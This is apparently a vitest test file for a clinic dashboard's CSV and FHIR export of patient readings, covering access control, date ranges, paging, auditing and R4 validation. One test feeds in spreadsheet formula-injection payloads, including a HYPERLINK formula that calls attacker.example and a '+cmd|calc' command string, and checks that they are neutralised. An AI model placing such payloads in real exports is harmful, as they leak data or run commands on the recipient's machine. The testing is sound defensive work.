import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import type { Bundle, Device, Observation, Patient } from 'fhir/r4.js';
import { afterEach, describe, expect, it } from 'vitest';
import { CSV_COLUMNS } from '../../../src/clinic/dashboard/exports/csv.js';
import { MAX_FHIR_MEASUREMENTS } from '../../../src/clinic/dashboard/exports/fhir.js';
import { EXPORT_PAGE_SIZE } from '../../../src/clinic/dashboard/exports/pages.js';
import { transactionBundle } from '../../../src/clinic/fhir/bundle.js';
import { mapMeasurement } from '../../../src/clinic/fhir/mapping.js';
import type {
  ClinicStore,
  IncomingMeasurement,
  MeasurementPageQuery,
} from '../../../src/clinic/storage/clinic-store.js';
import { ClinicStoreError } from '../../../src/clinic/storage/errors.js';
import { resolvedEntries, validate } from '../fhir/r4.js';
import {
  bloodPressure,
  glucose,
  invalidTemperature,
  PATIENT_SYSTEM,
  SYSTEM_BASE,
  sample,
} from '../fhir/samples.js';
import { auditOf, Browser, MINUTE, MRN_CARED, MRN_OTHER, type Rig, startRig } from './rig.js';

/**
 * The exports (GET /patients/:mrn/export) over fastify.inject on the rig's real encrypted SQLite file: the CSV
 * parsed back with csv-parse, the FHIR Bundle validated with @medplum/core, access, range checks and the audit.
 */

const FHIR = { patientIdentifierSystem: PATIENT_SYSTEM, systemBase: SYSTEM_BASE };
const HOUR = 60 * MINUTE;
let rig: Rig | undefined;
afterEach(async () => {
  await rig?.close();
  rig = undefined;
});

/**
 * A measurement of the sample set moved onto the cared-for patient's hub (the rig assigns gw-a), with an id of
 * its own: the samples' ids (m1-0...01, ...) are the rig's readings' too.
 */
let own = 0;
const onHubA = (m: IncomingMeasurement): IncomingMeasurement => ({
  ...m,
  measurement: { ...m.measurement, id: `m1-e${(++own).toString(16).padStart(31, '0')}` },
  receipt: { ...m.receipt, gatewayId: 'gw-a' },
});

async function commit(r: Rig, measurements: readonly IncomingMeasurement[]): Promise<void> {
  await r.clinic.commit({ measurements, gaps: [], statuses: [], rejections: [] });
}

async function signedIn(r: Rig, username: 'alice' | 'carl'): Promise<Browser> {
  const browser = new Browser(r.app);
  await browser.login(username, r.secret, r.clock.now());
  return browser;
}

const iso = (ms: number) => new Date(ms).toISOString();
const exportUrl = (mrn: string, query: Record<string, string>) =>
  `/patients/${encodeURIComponent(mrn)}/export?${new URLSearchParams(query).toString()}`;

describe('CSV export', () => {
  it('a clinician downloads an assigned patient’s readings: one record per observation, provenance, RFC 4180, audited', async () => {
    rig = await startRig({ fhirExport: FHIR });
    const now = rig.clock.now();
    // Besides the rig's three SpO2 readings (4 h ago, 2 observations each): a blood pressure the hub
    // time-corrected (4 values), and a back-filled reading on the alert lane whose hub-given text fields
    // would be formulas in a spreadsheet, with a value the device could not give and a negative one.
    const bp = onHubA(bloodPressure({ at: now - HOUR, skewMs: -90_000 }));
    const hostile = onHubA(
      sample({
        characteristic: '2a1c',
        at: now - 30 * MINUTE,
        stored: true,
        deviceId: '=HYPERLINK("https://attacker.example/?"&A1,"x")',
        driver: '@SUM(1+1)@1.0.0',
        observations: [
          { code: 'MDC_TEMP_BODY', value: null, unit: 'Cel', invalid: '-inf', qualifier: '+cmd|calc' },
          { code: 'MDC_TEMP_BODY', value: -4.5, unit: 'Cel', qualifier: '\tsecond' },
        ],
      }),
    );
    const hostileWithStatus = {
      ...hostile,
      measurement: { ...hostile.measurement, status: ['-2+3', 'irregular, "quoted"\r\nline'] },
      receipt: { ...hostile.receipt, topic: 'alert' as const },
    };
    // Outside the range: before it, and exactly at its end (excluded).
    const before = onHubA(invalidTemperature(now - 11 * HOUR));
    const atEnd = onHubA(glucose(now));
    await commit(rig, [bp, hostileWithStatus, before, atEnd]);

    const browser = await signedIn(rig, 'carl');
    const from = now - 10 * HOUR;
    const response = await browser.get(
      exportUrl(MRN_CARED, { from: iso(from), to: iso(now), format: 'csv' }),
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="readings_MRN-1001_20261128T020000Z_20261128T120000Z.csv"',
    );
    expect(response.headers['cache-control']).toBe('no-store');
    expect(response.headers['content-security-policy']).toContain("default-src 'self'");
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    // RFC 4180: CRLF after every record, the last included.
    expect(response.body.endsWith('\r\n')).toBe(true);
    expect(response.body.split('\r\n')[0]).toBe(CSV_COLUMNS.join(','));

    const records = parse(response.body, { columns: true, record_delimiter: '\r\n' }) as Record<
      string,
      string
    >[];
    // 3 SpO2 readings x 2, the blood pressure's 4 values, the 2 temperatures; by measurement time.
    expect(records).toHaveLength(12);
    expect(records.map((r) => r.measurement_id)).toEqual([
      ...[1, 2, 3].flatMap((n) => [
        `m1-${n.toString(16).padStart(32, '0')}`,
        `m1-${n.toString(16).padStart(32, '0')}`,
      ]),
      ...Array(4).fill(bp.measurement.id),
      hostile.measurement.id,
      hostile.measurement.id,
    ]);
    const bpRows = records.filter((r) => r.measurement_id === bp.measurement.id);
    expect(bpRows.map((r) => [r.code, r.value, r.unit])).toEqual([
      ['MDC_PRESS_BLD_NONINV_SYS', '128', 'mm[Hg]'],
      ['MDC_PRESS_BLD_NONINV_DIA', '82', 'mm[Hg]'],
      ['MDC_PRESS_BLD_NONINV_MEAN', '97', 'mm[Hg]'],
      ['MDC_PULS_RATE_NON_INV', '66', '/min'],
    ]);
    expect(bpRows[0]).toMatchObject({
      time_as_sent: bp.measurement.time,
      device_time: bp.measurement.deviceTime,
      time_source: 'device-corrected',
      measured_utc: iso(now - HOUR),
      hub_received_utc: bp.measurement.receivedAt,
      clinic_received_utc: iso(bp.receipt.receivedAt),
      // The rig's store stamps commits with the real clock.
      committed_utc: iso((await rig.clinic.measurement(bp.measurement.id))?.committedAt ?? 0),
      invalid_reason: '',
      qualifier: '',
      status: '',
      stored: 'false',
      device: 'dev-2a35',
      driver: 'sig-test@1.0.0',
      gateway: 'gw-a',
      lane: 'obs',
    });
    const [noValue, negative] = records.filter((r) => r.measurement_id === hostile.measurement.id);
    // Every hub-given field that a spreadsheet would run starts with a quote; the negative number does not.
    expect(noValue).toMatchObject({
      value: '',
      invalid_reason: 'negative-infinity',
      qualifier: "'+cmd|calc",
      status: '\'-2+3;irregular, "quoted"\r\nline',
      stored: 'true',
      device: `'=HYPERLINK("https://attacker.example/?"&A1,"x")`,
      driver: "'@SUM(1+1)@1.0.0",
      lane: 'alert',
    });
    expect(negative).toMatchObject({ value: '-4.5', qualifier: "'\tsecond" });
    for (const record of records) {
      for (const value of Object.values(record)) {
        if (value === '-4.5') continue;
        expect(value, 'no field starts a formula').not.toMatch(/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/);
      }
    }

    const started = auditOf(rig, 'patient.export-started');
    expect(started).toEqual([
      {
        ...started[0],
        actor: 'carl',
        details: { mrn: MRN_CARED, from: iso(from), to: iso(now), format: 'csv', ip: '127.0.0.1' },
      },
    ]);
    // The entry with the counts is written when the response has ended.
    const done = auditOf(rig, 'patient.exported');
    expect(done.map((e) => [e.actor, e.details])).toEqual([
      [
        'carl',
        {
          mrn: MRN_CARED,
          from: iso(from),
          to: iso(now),
          format: 'csv',
          ip: '127.0.0.1',
          measurements: 5,
          rows: 12,
          complete: true,
        },
      ],
    ]);
  });

  it('reads the store in pages of EXPORT_PAGE_SIZE measurements, never the whole range at once', async () => {
    const calls: MeasurementPageQuery[] = [];
    let wholeRange = 0;
    // The rig's real SQLite store, watched: every call passes through to it.
    const watch = (inner: ClinicStore): ClinicStore =>
      new Proxy(inner, {
        get(target, name) {
          if (name === 'measurementPage') {
            return (query: MeasurementPageQuery) => {
              calls.push(query);
              return target.measurementPage(query);
            };
          }
          if (name === 'measurementsOf') wholeRange++;
          const value = Reflect.get(target, name, target) as unknown;
          return typeof value === 'function' ? value.bind(target) : value;
        },
      });
    rig = await startRig({}, watch);
    const now = rig.clock.now();
    const count = 2 * EXPORT_PAGE_SIZE + 500;
    const readings = Array.from({ length: count }, (_, i) =>
      onHubA(
        sample({
          characteristic: '2a5f',
          at: now - 3 * HOUR + i * 1000,
          timeSource: 'gateway',
          observations: [{ code: 'MDC_PULS_OXIM_SAT_O2', value: 90 + (i % 10), unit: '%' }],
        }),
      ),
    );
    await commit(rig, readings);
    const browser = await signedIn(rig, 'alice');
    const response = await browser.get(
      exportUrl(MRN_CARED, { from: iso(now - 3 * HOUR), to: iso(now), format: 'csv' }),
    );
    expect(response.statusCode).toBe(200);
    const records = parse(response.body, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(count);
    expect(new Set(records.map((r) => r.measurement_id)).size).toBe(count);
    // Three pages, each after the last one's final measurement; never one read of the whole range.
    expect(calls.map((c) => c.limit)).toEqual([EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE, EXPORT_PAGE_SIZE]);
    expect(calls[0]?.after).toBeUndefined();
    expect(calls[1]?.after?.measuredAt).toBe(now - 3 * HOUR + (EXPORT_PAGE_SIZE - 1) * 1000);
    expect(wholeRange).toBe(0);
    expect(auditOf(rig, 'patient.exported')[0]?.details).toMatchObject({ measurements: count, rows: count });
  });
  it('a store failure mid-way cuts the download and is audited as incomplete, with its code and no detail', async () => {
    let calls = 0;
    const failing = (inner: ClinicStore): ClinicStore =>
      new Proxy(inner, {
        get(target, name) {
          if (name === 'measurementPage') {
            return (query: MeasurementPageQuery) => {
              calls++;
              if (calls === 2) {
                return Promise.reject(
                  new ClinicStoreError('CLINIC_STORE_IO', 'reading a page: disk I/O error at /secret/path'),
                );
              }
              return target.measurementPage(query);
            };
          }
          const value = Reflect.get(target, name, target) as unknown;
          return typeof value === 'function' ? value.bind(target) : value;
        },
      });
    rig = await startRig({}, failing);
    const now = rig.clock.now();
    const readings = Array.from({ length: EXPORT_PAGE_SIZE + 10 }, (_, i) =>
      onHubA(
        sample({
          characteristic: '2a5f',
          at: now - 3 * HOUR + i * 1000,
          timeSource: 'gateway',
          observations: [{ code: 'MDC_PULS_OXIM_SAT_O2', value: 95, unit: '%' }],
        }),
      ),
    );
    await commit(rig, readings);
    const browser = await signedIn(rig, 'carl');
    const url = exportUrl(MRN_CARED, { from: iso(now - 3 * HOUR), to: iso(now), format: 'csv' });
    // The response is cut after the first page (its 200 and first rows had gone out): the client sees it end
    // early, which light-my-request reports as an error, as a browser marks the download failed.
    await expect(browser.get(url)).rejects.toThrow('response destroyed before completion');
    expect(calls).toBe(2);
    expect(auditOf(rig, 'patient.exported').map((e) => e.details)).toEqual([
      expect.objectContaining({
        measurements: EXPORT_PAGE_SIZE,
        rows: EXPORT_PAGE_SIZE,
        complete: false,
        error: 'CLINIC_STORE_IO',
      }),
    ]);
    expect(readFileSync(rig.audit.path, 'utf8')).not.toContain('/secret/path');
  });
});

describe('access and ranges', () => {
  it('a clinician’s export of a patient not in their care answers the page’s own 404, and nothing is exported', async () => {
    rig = await startRig({ fhirExport: FHIR });
    const browser = await signedIn(rig, 'carl');
    const now = rig.clock.now();
    const range = { from: iso(now - 10 * HOUR), to: iso(now) };
    const page = await browser.get(`/patients/${MRN_OTHER}`);
    const unknownPage = await browser.get('/patients/MRN-9999');
    const answers = [
      await browser.get(exportUrl(MRN_OTHER, { ...range, format: 'csv' })),
      await browser.get(exportUrl(MRN_OTHER, { ...range, format: 'fhir' })),
      // A bad query does not tell either: the 404 comes first.
      await browser.get(exportUrl(MRN_OTHER, { from: 'x', to: 'y' })),
      await browser.get(exportUrl('MRN-9999', { ...range, format: 'csv' })),
    ];
    expect(page.statusCode).toBe(404);
    for (const answer of answers) {
      expect(answer.statusCode).toBe(404);
      expect(answer.body).toBe(page.body);
      expect(answer.body).toBe(unknownPage.body);
      expect(answer.headers['content-disposition']).toBeUndefined();
    }
    // The admin sees every assigned patient; the export of MRN_OTHER works for her.
    const admin = await signedIn(rig, 'alice');
    expect((await admin.get(exportUrl(MRN_OTHER, { ...range, format: 'csv' }))).statusCode).toBe(200);
    expect(auditOf(rig, 'patient.export-started').map((e) => e.actor)).toEqual(['alice']);
  });

  it('without a complete login the export redirects to the login, like every page', async () => {
    rig = await startRig();
    const browser = new Browser(rig.app);
    const now = rig.clock.now();
    const url = exportUrl(MRN_CARED, { from: iso(now - HOUR), to: iso(now) });
    const anonymous = await browser.get(url);
    expect([anonymous.statusCode, anonymous.headers.location]).toEqual([303, '/login']);
    await browser.password('carl');
    const halfway = await browser.get(url);
    expect([halfway.statusCode, halfway.headers.location]).toEqual([303, '/mfa']);
  });

  it('refuses bad, inverted and too long ranges and unknown formats with 400 and a stable code', async () => {
    rig = await startRig();
    const browser = await signedIn(rig, 'carl');
    const cases: [Record<string, string>, string][] = [
      [{ to: '2026-11-28T10:00' }, 'EXPORT_RANGE_INVALID'],
      [{ from: 'yesterday', to: '2026-11-28T10:00' }, 'EXPORT_RANGE_INVALID'],
      [{ from: '2026-13-01T10:00', to: '2026-11-28T10:00' }, 'EXPORT_RANGE_INVALID'],
      [{ from: '2026-02-30T10:00', to: '2026-11-28T10:00' }, 'EXPORT_RANGE_INVALID'],
      [{ from: '2026-11-28T24:00', to: '2026-11-29T10:00' }, 'EXPORT_RANGE_INVALID'],
      [{ from: '1776000000000', to: '2026-11-28T10:00' }, 'EXPORT_RANGE_INVALID'],
      [{ from: '2026-11-28T10:00', to: '2026-11-28T10:00' }, 'EXPORT_RANGE_INVERTED'],
      [{ from: '2026-11-28T10:00', to: '2026-11-27T10:00' }, 'EXPORT_RANGE_INVERTED'],
      [{ from: '2026-10-01T00:00', to: '2026-11-28T10:00' }, 'EXPORT_RANGE_TOO_LONG'],
      [{ from: '2026-11-27T10:00', to: '2026-11-28T10:00', format: 'xlsx' }, 'EXPORT_FORMAT_UNKNOWN'],
      // This rig has no FHIR identifier systems.
      [{ from: '2026-11-27T10:00', to: '2026-11-28T10:00', format: 'fhir' }, 'EXPORT_FHIR_NOT_CONFIGURED'],
    ];
    for (const [query, code] of cases) {
      const response = await browser.get(exportUrl(MRN_CARED, query));
      expect([response.statusCode, response.headers['content-type']], code).toEqual([
        400,
        'text/html; charset=utf-8',
      ]);
      expect(response.body).toContain(`[${code}]`);
      expect(response.body).not.toContain('<script');
      expect(response.body).toContain(`href="/patients/${MRN_CARED}"`);
    }
    // Exactly 31 days is allowed; a refused export is not one.
    const month = await browser.get(
      exportUrl(MRN_CARED, { from: '2026-10-28T12:00Z', to: '2026-11-28T12:00Z', format: 'csv' }),
    );
    expect(month.statusCode).toBe(200);
    expect(auditOf(rig, 'patient.export-started')).toHaveLength(1);
  });

  it('reads a form’s local date-time in the clinic’s time zone, and [from, to) holds from but not to', async () => {
    rig = await startRig({ timeZone: 'America/New_York' });
    const browser = await signedIn(rig, 'carl');
    // The rig's readings: 08:00:01, 08:00:02 and 08:00:03 UTC = 03:00:0x in New York (UTC-5 in November).
    const csvOf = async (from: string, to: string) => {
      const response = await browser.get(exportUrl(MRN_CARED, { from, to, format: 'csv' }));
      expect(response.statusCode).toBe(200);
      return (parse(response.body, { columns: true }) as Record<string, string>[]).map((r) => r.measured_utc);
    };
    const second = (s: number) => `2026-11-28T08:00:0${s}.000Z`;
    expect(await csvOf('2026-11-28T03:00', '2026-11-28T03:01')).toEqual([1, 1, 2, 2, 3, 3].map(second));
    // Read as UTC these would hold nothing: 03:00Z is five hours before the readings.
    expect(await csvOf('2026-11-28T03:00:02', '2026-11-28T03:00:03')).toEqual([2, 2].map(second));
    expect(await csvOf('2026-11-28T08:00:01Z', '2026-11-28T03:00:03-05:00')).toEqual(
      [1, 1, 2, 2].map(second),
    );
  });
});

describe('FHIR export', () => {
  it('a collection Bundle: the Patient, the hub’s and sensors’ Devices, the Observations of the FHIR mapping, valid R4', async () => {
    rig = await startRig({ fhirExport: FHIR });
    const now = rig.clock.now();
    const bp = onHubA(bloodPressure({ at: now - HOUR, skewMs: -90_000 }));
    const temp = onHubA(invalidTemperature(now - 2 * HOUR));
    await commit(rig, [bp, temp]);
    const browser = await signedIn(rig, 'carl');
    const from = now - 10 * HOUR;
    const response = await browser.get(
      exportUrl(MRN_CARED, { from: iso(from), to: iso(now), format: 'fhir' }),
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/fhir+json; charset=utf-8; fhirVersion=4.0');
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="readings_MRN-1001_20261128T020000Z_20261128T120000Z.json"',
    );
    expect(response.headers['cache-control']).toBe('no-store');
    const bundle = JSON.parse(response.body) as Bundle;
    expect(bundle.type).toBe('collection');
    expect(bundle.timestamp).toBe(iso(now));
    const entries = bundle.entry ?? [];
    const patient = entries[0]?.resource as Patient;
    expect(patient).toEqual({
      resourceType: 'Patient',
      identifier: [{ system: PATIENT_SYSTEM, value: MRN_CARED }],
    });
    // Collection entries are not requests (those belong to transactions); fullUrls are unique (bdl-7).
    expect(entries.every((e) => e.request === undefined && e.fullUrl?.startsWith('urn:uuid:'))).toBe(true);
    expect(new Set(entries.map((e) => e.fullUrl)).size).toBe(entries.length);
    const devices = entries.map((e) => e.resource).filter((r): r is Device => r?.resourceType === 'Device');
    const typeCodes = devices.map((d) => d.type?.coding?.[0]?.code).sort();
    // One hub (PhgDevice, 531981) and three sensors (PhdDevice, 65573): the rig's oximeter, the cuff, the thermometer.
    expect(typeCodes).toEqual(['531981', '65573', '65573', '65573']);
    const observations = entries
      .map((e) => e.resource)
      .filter((r): r is Observation => r?.resourceType === 'Observation');
    for (const o of observations.filter((x) => x.subject?.type === 'Patient')) {
      expect(o.subject?.identifier).toEqual({ system: PATIENT_SYSTEM, value: MRN_CARED });
    }

    // Valid R4: the Bundle and every resource (references resolved as a reader of the file resolves them).
    const failures = [bundle, ...resolvedEntries(bundle)]
      .flatMap((r) => validate(r))
      .filter((v) => v.errors.length > 0);
    expect(failures).toEqual([]);
    // The validator is live: a Bundle without its type is refused.
    const { type: _type, ...untyped } = bundle;
    expect(validate(untyped as Bundle)[0]?.errors).not.toEqual([]);

    // The same resources the FHIR export sends to the EHR (one mapping), plus the Patient.
    const stored = await rig.clinic.measurementsOf(MRN_CARED, from, now);
    const sent = transactionBundle(stored.map((s) => mapMeasurement(s, MRN_CARED, FHIR)));
    const byUrl = (a: { fullUrl?: string }, b: { fullUrl?: string }) =>
      (a.fullUrl ?? '') < (b.fullUrl ?? '') ? -1 : 1;
    expect([...entries.slice(1)].sort(byUrl)).toEqual(
      (sent.entry ?? []).map((e) => ({ fullUrl: e.fullUrl, resource: e.resource })).sort(byUrl),
    );

    expect(auditOf(rig, 'patient.exported').map((e) => e.details)).toEqual([
      {
        mrn: MRN_CARED,
        from: iso(from),
        to: iso(now),
        format: 'fhir',
        ip: '127.0.0.1',
        measurements: 5,
        rows: entries.length,
        complete: true,
      },
    ]);
  });

  it(`refuses a range of more than ${MAX_FHIR_MEASUREMENTS} measurements (never a Bundle cut short); the CSV of it works`, async () => {
    rig = await startRig({ fhirExport: FHIR });
    const now = rig.clock.now();
    // The rig's 3 readings and these: one more than a Bundle may hold.
    const readings = Array.from({ length: MAX_FHIR_MEASUREMENTS - 2 }, (_, i) =>
      onHubA(
        sample({
          characteristic: '2a5f',
          at: now - 3 * HOUR + i * 1000,
          timeSource: 'gateway',
          observations: [{ code: 'MDC_PULS_OXIM_SAT_O2', value: 95, unit: '%' }],
        }),
      ),
    );
    await commit(rig, readings);
    const browser = await signedIn(rig, 'carl');
    const range = { from: iso(now - 10 * HOUR), to: iso(now) };
    const fhir = await browser.get(exportUrl(MRN_CARED, { ...range, format: 'fhir' }));
    expect(fhir.statusCode).toBe(400);
    expect(fhir.body).toContain('[EXPORT_TOO_MANY_READINGS]');
    expect(fhir.headers['content-disposition']).toBeUndefined();
    // One measurement fewer fits: the range without the first of the rig's readings (4 h ago, + 1 s).
    const fits = await browser.get(
      exportUrl(MRN_CARED, { from: iso(now - 4 * HOUR + 1001), to: range.to, format: 'fhir' }),
    );
    expect(fits.statusCode).toBe(200);
    const csv = await browser.get(exportUrl(MRN_CARED, { ...range, format: 'csv' }));
    expect(csv.statusCode).toBe(200);
    expect(auditOf(rig, 'patient.exported').map((e) => [e.details.format, e.details.measurements])).toEqual([
      ['fhir', MAX_FHIR_MEASUREMENTS],
      ['csv', MAX_FHIR_MEASUREMENTS + 1],
    ]);
  });
});

describe('the patient page', () => {
  it('offers the export as a plain GET form (no script) with the last 24 hours in the clinic’s zone', async () => {
    rig = await startRig({ fhirExport: FHIR, timeZone: 'Europe/Berlin' });
    const browser = await signedIn(rig, 'carl');
    const page = await browser.get(`/patients/${MRN_CARED}`);
    expect(page.statusCode).toBe(200);
    // The rig's clock: 2026-11-28T12:00Z, 13:00 in Berlin.
    expect(page.body).toContain(`<form method="get" action="/patients/${MRN_CARED}/export">`);
    expect(page.body).toContain('name="from" type="datetime-local" value="2026-11-27T13:00"');
    expect(page.body).toContain('name="to" type="datetime-local" value="2026-11-28T13:00"');
    expect(page.body).toContain('<option value="csv" selected>');
    expect(page.body).toContain('<option value="fhir">');
    expect(page.body).toContain('Times in Europe/Berlin');
    expect(page.body).not.toMatch(/<script(?![^>]*src="\/assets\/)|\son[a-z]+=/i);

    // Without the FHIR identifier systems: CSV only.
    await rig.close();
    rig = await startRig();
    const other = await signedIn(rig, 'carl');
    const plain = await other.get(`/patients/${MRN_CARED}`);
    expect(plain.body).toContain('<option value="csv" selected>');
    expect(plain.body).not.toContain('<option value="fhir">');
  });
});
